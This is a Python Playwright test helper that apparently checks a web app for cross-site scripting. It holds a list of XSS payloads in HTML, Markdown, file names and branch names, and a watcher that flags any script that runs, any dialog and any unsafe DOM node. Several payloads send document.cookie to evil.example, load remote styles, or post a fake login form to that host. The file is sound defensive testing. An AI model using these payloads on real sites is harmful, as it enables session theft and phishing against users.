"""Texts that would run as scripts if the page let them, and whether any did."""

from playwright.async_api import Dialog, Page

# Whatever runs leaves a mark, opens a dialog and calls home.
RUN = "window.__xss=1,alert(1),fetch('https://evil.example/'+document.cookie)"
HTML = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg/onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<input autofocus onfocus="{RUN}"><video><source onerror="{RUN}"></video>',
    f'<math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    f'"><img src=x onerror="{RUN}">',
    f"'-({RUN})-'",
    f"</textarea></title></style></script><script>{RUN}</script>",
    f"{{@html '<img src=x onerror={RUN}>'}}${{{RUN}}}{{{{constructor.constructor('{RUN}')()}}}}",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input type=password name=key><button>Log in</button></form>',
    "<style>@import 'https://evil.example/x.css';body{background:url(https://evil.example/x)}</style>",
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    "<div id=app><a id=__proto__ name=innerHTML href=//evil.example>x</a></div>",
)
MARKDOWN = (
    f"[one](javascript:{RUN.split(',')[0]})",
    "[two](JaVa\tScRiPt:alert(1)) [three](&#106;avascript:alert(1)) [four](data:text/html,<script>alert(1)</script>)",
    "![seen](https://evil.example/pixel.png) ![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg onload=alert(1)>)",
    '[five](https://evil.example "\\" onmouseover=alert(1) x=\\"")',
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"```html\n<script>{RUN}</script>\n```",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    "<https://evil.example/auto> <javascript:alert(1)> www.evil.example",
    f"`<img src=x onerror={RUN}>` ~~<svg onload=alert(1)>~~ [^1]\n\n[^1]: <img src=x onerror=alert(1)>",
)
# A file's name has no slash, a branch's no space.
NAME = "<img src=x onerror=window.__xss=1>.md"
FOLDER = '"><svg onload=window.__xss=1>'
BRANCH = "<img/src=x/onerror=window.__xss=1>"
SHORT = "<img src=x onerror=window.__xss=1>"

# Before anything of the page runs: what is refused there is told, too.
WATCH = """
window.__refused = [];
document.addEventListener("securitypolicyviolation", (event) =>
  __refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
# What must not be in the page, wherever it came from.
LOOK = """
() => {
  const bad = [];
  for (const node of document.querySelectorAll("*")) {
    const tag = node.tagName.toLowerCase();
    if (["iframe", "object", "embed", "base", "style", "math", "video"].includes(tag)) bad.push(tag);
    if (tag === "script" && new URL(node.src, location.href).origin !== location.origin) bad.push("script " + node.src);
    if (tag === "script" && node.textContent) bad.push("script " + node.textContent);
    if (tag === "meta" && node.httpEquiv) bad.push("meta");
    if (tag === "form" && node.hasAttribute("action")) bad.push("form");
    for (const { name, value } of node.attributes) {
      if (/^on/i.test(name)) bad.push(`${tag} ${name}`);
      if (!["href", "src", "action", "xlink:href"].includes(name)) continue;
      if (/^\\s*(javascript|vbscript|data:text)/i.test(value)) bad.push(value);
      const ours = new URL(value, location.href).origin === location.origin || /^(data|blob):/.test(value);
      if (name === "src" && !ours) bad.push(value);
    }
  }
  return { bad, ran: window.__xss ?? 0, refused: window.__refused };
}
"""


class Watch:
    """Looks whether anything got through."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.dialogs: list[str] = []

    async def begin(self) -> None:
        await self.page.add_init_script(WATCH)
        self.page.on("dialog", self._opened)

    async def _opened(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        await dialog.dismiss()

    async def nothing(self, where: str) -> None:
        found = await self.page.evaluate(LOOK)
        assert found == {"bad": [], "ran": 0, "refused": []}, f"{where}: {found}"
        assert not self.dialogs, where
